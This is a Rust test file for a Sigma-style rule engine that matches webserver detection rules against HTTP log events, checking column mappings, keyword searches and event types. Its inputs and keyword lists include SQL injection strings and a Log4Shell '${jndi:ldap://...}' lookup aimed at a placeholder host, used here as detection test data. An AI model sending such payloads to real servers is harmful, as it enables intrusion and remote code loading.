//! Rules in the style of SigmaHQ's for web servers, which name the columns of their logs.

use serde_json::{Value, json};

use super::findings;

fn request(event: &str, target: &str, status: u16) -> Value {
    let (path, query) = target.split_once('?').unwrap_or((target, ""));
    json!({
        "class_uid": 4002,
        "bartizan": { "event": event },
        "src_endpoint": { "ip": "192.0.2.7" },
        "http_request": {
            "http_method": "GET", "user_agent": "curl/8.5",
            "url": { "path": path, "query_string": query, "hostname": "shop.example" },
        },
        "http_response": { "code": status },
    })
}

fn fires(detection: &str, event: Value) -> bool {
    let rule = format!("title: A\nid: a\nlogsource: {{ category: webserver }}\ndetection:\n{detection}");
    !findings(&rule, [(0, event)]).is_empty()
}

#[test]
fn columns_are_found_in_events() {
    let target = "/_vti_bin/a.aspx?q=%27%20OR%201=1";
    let cases = [
        ("{ cs-method: GET }", true),
        ("{ cs-method: POST }", false),
        ("{ cs-uri-stem|endswith: .aspx }", true),
        // Paths are sought in the query by most rules.
        ("{ cs-uri-query|contains: /_vti_bin/ }", true),
        ("{ cs-uri-query|contains|all: [_vti_bin, '%20or%20'] }", true),
        // Nothing is decoded.
        ("{ cs-uri-query|contains: \"' or 1\" }", false),
        ("{ c-uri|re: '^/_vti_bin/.*\\?q=%27' }", true),
        ("{ sc-status: 200, cs-user-agent|startswith: curl/ }", true),
        ("{ sc-status: [301, 404] }", false),
        ("{ c-ip|cidr: 192.0.2.0/24 }", true),
        ("{ cs-host: shop.example }", true),
        // A web server writes a dash for what it does not know.
        ("{ cs-referer: '-', cs-username: ['-', ''] }", true),
        ("{ cs-referer|contains: example }", false),
    ];
    for (selection, expected) in cases {
        let detection = format!("    selection: {selection}\n    condition: selection\n");
        assert_eq!(fires(&detection, request("request_allowed", target, 200)), expected, "{selection}");
    }
}

#[test]
fn keywords_are_sought_in_the_whole_line() {
    let detection = "    select_method: { cs-method: GET }\n    keywords: ['UNION%20SELECT', '${jndi:']\n    \
                     filter: { sc-status: 404 }\n    condition: select_method and keywords and not 1 of filter*\n";
    assert!(fires(detection, request("request_allowed", "/a?b=1%20union%20select%202", 200)));
    assert!(!fires(detection, request("request_refused", "/a?b=1%20union%20select%202", 404)));
    assert!(!fires(detection, request("request_allowed", "/a?b=1", 200)));
}

#[test]
fn every_request_is_a_line() {
    let detection = "    selection: { cs-method: GET }\n    condition: selection\n";
    let events = [
        "request_allowed",
        "request_refused",
        "request_challenged",
        // Whatever was found about it, it is the one event that the request has.
        "attack_detected",
        "rate_limit_exceeded",
        "upstream_failed",
        "permission_denied",
    ];
    for event in events {
        assert!(fires(detection, request(event, "/", 200)), "{event}");
    }
    // What the audit trail tells of a refusal has no path; logins are no requests.
    let detection = "    selection: { c-ip: 192.0.2.7 }\n    condition: selection\n";
    let told = |class: u16, url: Value| {
        json!({
            "class_uid": class, "bartizan": { "event": "permission_denied" },
            "src_endpoint": { "ip": "192.0.2.7" }, "http_request": url,
        })
    };
    let url = || json!({ "url": { "path": "/" } });
    assert!(fires(detection, told(4002, url())));
    assert!(!fires(detection, told(4002, json!({ "uid": "a-request" }))));
    assert!(!fires(detection, told(3002, url())));
}

#[test]
fn what_the_firewall_lets_through_in_log_mode_is_seen() {
    let detection =
        "    keywords: ['${jndi:']\n    filter: { sc-status: 404 }\n    condition: keywords and not filter\n";
    let answered = request("attack_detected", "/?q=${jndi:ldap://x/a}", 200);
    assert!(fires(detection, answered));
}
